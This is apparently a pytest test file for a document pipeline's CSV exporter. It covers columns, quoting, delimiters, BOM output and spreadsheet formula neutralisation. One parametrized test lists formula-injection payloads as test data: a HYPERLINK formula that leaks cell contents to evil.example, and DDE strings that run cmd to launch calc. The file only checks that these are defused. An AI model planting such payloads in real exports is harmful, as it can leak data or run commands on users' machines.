"""The ``csv`` exporter: columns, joined list fields, parsing back, formula neutralisation."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

import thresher
from thresher import Document, Pipeline, Source
from thresher.testing import feed

HEADER = [
    "id",
    "source",
    "title",
    "date",
    "publisher",
    "author",
    "language",
    "url",
    "text",
    "entities",
    "quantities",
    "quotes",
    "duplicates",
    "removed",
]


@pytest.fixture(scope="module")
def pipeline() -> Pipeline:
    return Pipeline(entrypoints=False)


def export(pipeline: Pipeline, documents: list[Document], folder: Path, **options) -> Path:
    exporter = pipeline.exporters(["csv"], {"csv": options} if options else None)[0]
    sink = exporter.open(folder, context=None)
    for document in documents:
        sink.write(document)
    (path,) = sink.close()
    return path


def read_rows(path: Path, *, delimiter: str = ",", encoding: str = "utf-8") -> list[dict]:
    with path.open(encoding=encoding, newline="") as file:
        return list(csv.DictReader(file, delimiter=delimiter))


def rich_document() -> Document:
    document = Document(
        id="news/1",
        text='He said "no, never",\nthen left.\n\nA second paragraph, with commas; and "quotes".',
        source=Source("dump.jsonl", "jsonl", position=4),
        meta={
            "title": 'Storm, rain and "wind"',
            "date": "2025-10-27",
            "publisher": "The Daily",
            "authors": ["A. Writer", "B. Editor"],  # the metadata extractor's list
            "language": "en",
            "url": "https://example.org/a?x=1,2",
        },
        fields={
            "entities": [
                {"text": "Marie Curie", "label": "PER"},
                {"text": "ACME", "label": "ORG"},
            ],
            "quantities": [{"text": "12 km", "value": 12}, {"text": "3 hours"}],
            "quotes": [
                {"text": "We are ready", "speaker": "Marie Curie"},
                {"text": "Stay home", "speaker": ""},
            ],
        },
        duplicates=["mirror/1", "mirror/2"],
    )
    document.record_removal("boilerplate", "navigation", "Home")
    document.record_removal("clean-repeats", "repeated-paragraph", "Again")
    return document


def test_one_row_per_document_with_every_column(pipeline, tmp_path):
    path = export(pipeline, [rich_document(), Document(id="bare", text="Plain.")], tmp_path)

    assert path == tmp_path / "documents.csv"
    with path.open(encoding="utf-8", newline="") as file:
        assert next(csv.reader(file)) == HEADER
    rich, bare = read_rows(path)
    assert rich == {
        "id": "news/1",
        "source": "dump.jsonl:4",
        "title": 'Storm, rain and "wind"',
        "date": "2025-10-27",
        "publisher": "The Daily",
        "author": "A. Writer; B. Editor",
        "language": "en",
        "url": "https://example.org/a?x=1,2",
        "text": rich_document().text,
        "entities": "Marie Curie (PER); ACME (ORG)",
        "quantities": "12 km; 3 hours",
        "quotes": "“We are ready” — Marie Curie; “Stay home”",
        "duplicates": "mirror/1; mirror/2",
        "removed": "2",
    }
    empty = dict.fromkeys(HEADER, "")
    assert bare == {**empty, "id": "bare", "source": "<memory>", "text": "Plain.", "removed": "0"}


def test_embedded_newlines_quotes_and_delimiters_survive_a_reader(pipeline, tmp_path):
    text = 'line one, with comma\r\nline "two"\n\n"quoted start'
    path = export(pipeline, [Document(id='id,with "quotes"\n', text=text)], tmp_path)

    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))

    assert len(rows) == 2
    assert rows[1][0] == 'id,with "quotes"\n'
    assert rows[1][HEADER.index("text")] == text


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_cells_are_neutralised(pipeline, tmp_path, hostile):
    document = Document(
        id=hostile,
        text=hostile,
        meta={"title": hostile, "author": hostile, "url": hostile},
        fields={"quantities": [{"text": hostile}]},
        duplicates=[hostile],
    )
    path = export(pipeline, [document], tmp_path)

    (row,) = read_rows(path)

    for column in ("id", "title", "author", "url", "text", "quantities", "duplicates"):
        assert row[column] == "'" + hostile, column


def test_title_hyperlink_formula_is_neutralised_and_harmless_cells_are_not(pipeline, tmp_path):
    documents = [
        Document(id="a", text="Sum: =1+1 inside", meta={"title": '=HYPERLINK("x","y")'}),
        Document(id="b", text="+33 1 23 45 67 89"),
        Document(id="c", text="- a list item"),
        Document(id="d", text="@handle wrote"),
        Document(id="e", text="'already quoted", meta={"title": "A = B"}),
    ]
    path = export(pipeline, documents, tmp_path)

    rows = read_rows(path)

    assert rows[0]["title"] == '\'=HYPERLINK("x","y")'
    assert rows[0]["text"] == "Sum: =1+1 inside"
    texts = [r["text"] for r in rows[1:4]]
    assert texts == ["'+33 1 23 45 67 89", "'- a list item", "'@handle wrote"]
    assert rows[4]["text"] == "'already quoted"
    assert rows[4]["title"] == "A = B"


def test_delimiter_option(pipeline, tmp_path):
    path = export(pipeline, [rich_document()], tmp_path, delimiter=";")

    first_line = path.read_text("utf-8").splitlines()[0]
    (row,) = read_rows(path, delimiter=";")

    assert first_line == ";".join(HEADER)
    assert row["entities"] == "Marie Curie (PER); ACME (ORG)"
    assert row["url"] == "https://example.org/a?x=1,2"


@pytest.mark.parametrize("bad", ["", ";;", '"', "\n"])
def test_bad_delimiter_is_a_config_error(pipeline, bad):
    with pytest.raises(thresher.ConfigError, match="delimiter"):
        pipeline.exporters(["csv"], {"csv": {"delimiter": bad}})


def test_include_text_false_drops_the_text_column(pipeline, tmp_path):
    path = export(pipeline, [rich_document()], tmp_path, include_text=False)

    (row,) = read_rows(path)

    assert list(row) == [c for c in HEADER if c != "text"]
    assert "paragraph" not in path.read_text("utf-8")


def test_excel_bom_option(pipeline, tmp_path):
    (tmp_path / "plain").mkdir()
    (tmp_path / "excel").mkdir()
    plain = export(pipeline, [rich_document()], tmp_path / "plain")
    excel = export(pipeline, [rich_document()], tmp_path / "excel", excel_bom=True)

    assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")
    assert excel.read_bytes().startswith(b"\xef\xbb\xbfid,source,")
    assert read_rows(excel, encoding="utf-8-sig") == read_rows(plain)


def test_no_documents_gives_a_header_only_file(pipeline, tmp_path):
    path = export(pipeline, [], tmp_path)

    assert path.read_bytes() == ",".join(HEADER).encode() + b"\r\n"


def test_abort_leaves_no_file(pipeline, tmp_path):
    sink = pipeline.exporters(["csv"])[0].open(tmp_path, context=None)
    sink.write(rich_document())

    assert not (tmp_path / "documents.csv").exists()
    sink.abort()

    assert list(tmp_path.iterdir()) == []


def test_a_run_writes_the_csv(pipeline, tmp_path):
    duplicate = Document(id="copy", text="Plain.")
    duplicate.mark_duplicate_of("news/1")
    out = tmp_path / "out"

    pipeline.execute(
        [feed([rich_document(), duplicate])], exporters=pipeline.exporters(["csv"]), output=out
    )

    assert [r["id"] for r in read_rows(out / "documents.csv")] == ["news/1"]
